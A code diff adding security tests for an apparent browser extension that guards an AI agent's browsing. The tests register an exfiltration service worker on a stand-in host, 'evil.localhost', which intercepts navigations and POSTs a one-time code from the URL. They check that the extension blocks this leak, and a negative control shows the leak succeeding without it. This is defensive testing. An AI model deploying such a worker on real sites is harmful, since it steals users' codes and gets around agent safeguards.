@@ -171,3 +171,52 @@ test('negative control: without the extension the Referer carries the code to ev
   const [evil] = await refererLeak(browser, server);
   expect(evil).toContain('482913');
 });
+
+/**
+ * A service worker answers a navigation its scope covers without a network request, so no rule refuses it.
+ * A site the task does not name (`evil.localhost`, whose worker was registered on a visit before the task)
+ * is opened in the guarded tab with the code the task's page showed in its address; the worker sees the URL
+ * and POSTs it home. Its requests have no tab, and the floor judged only the workers of the task's sites.
+ * Now every worker but the extension's own is judged: the POST is refused. (The navigation itself still
+ * commits from the worker — README, Known limits.)
+ */
+const EXFIL_WORKER = `
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (e) => {
+  if (e.request.mode !== 'navigate') return;
+  const search = new URL(e.request.url).search;
+  e.waitUntil(fetch('/collect-sw', { method: 'POST', body: search }).catch(() => 0));
+  e.respondWith(new Response('<!doctype html><title>from the worker</title>', { headers: { 'content-type': 'text/html' } }));
+});`;
+
+async function workerServedNavigation(browser: AgentBrowser, server: TestServer, guarded: boolean): Promise<{ title: string; collected: string[] }> {
+  server.setPage('/sw.js', { body: EXFIL_WORKER, contentType: 'text/javascript' });
+  server.setPage('/home', '<!doctype html><title>evil</title>');
+  server.setPage('/account', '<!doctype html><title>account</title><p>Your code: 482913</p>');
+  const evil = server.origin('evil.localhost');
+  const before = await browser.context.newPage();
+  await before.goto(`${evil}/home`);
+  await before.evaluate(async () => {
+    await navigator.serviceWorker.register('/sw.js');
+    await navigator.serviceWorker.ready;
+  });
+  await before.close();
+  if (guarded) await browser.setPolicy(readOnly);
+  const page = await browser.context.newPage();
+  await page.goto(`${server.origin('app.test')}/account`);
+  const code = /\d{6}/.exec(await page.locator('p').innerText())![0];
+  await page.goto(`${evil}/landing?c=${code}`).catch(() => undefined);
+  await server.waitFor('/collect-sw', 'evil.localhost', 1_500).catch(() => undefined);
+  return { title: await page.title(), collected: server.hits('/collect-sw').map((r) => r.body) };
+}
+
+test('the floor alone: a service worker of a site the task does not name cannot send what a navigation it answered carried', async ({ launchFence, server }) => {
+  const browser = await launchFence({ mainHooks: false });
+  expect(await workerServedNavigation(browser, server, true)).toEqual({ title: 'from the worker', collected: [] });
+});
+
+test('negative control: without the extension the service worker POSTs the code', async ({ launchFence, server }) => {
+  const browser = await launchFence({ extension: false });
+  expect(await workerServedNavigation(browser, server, false)).toEqual({ title: 'from the worker', collected: ['?c=482913'] });
+});
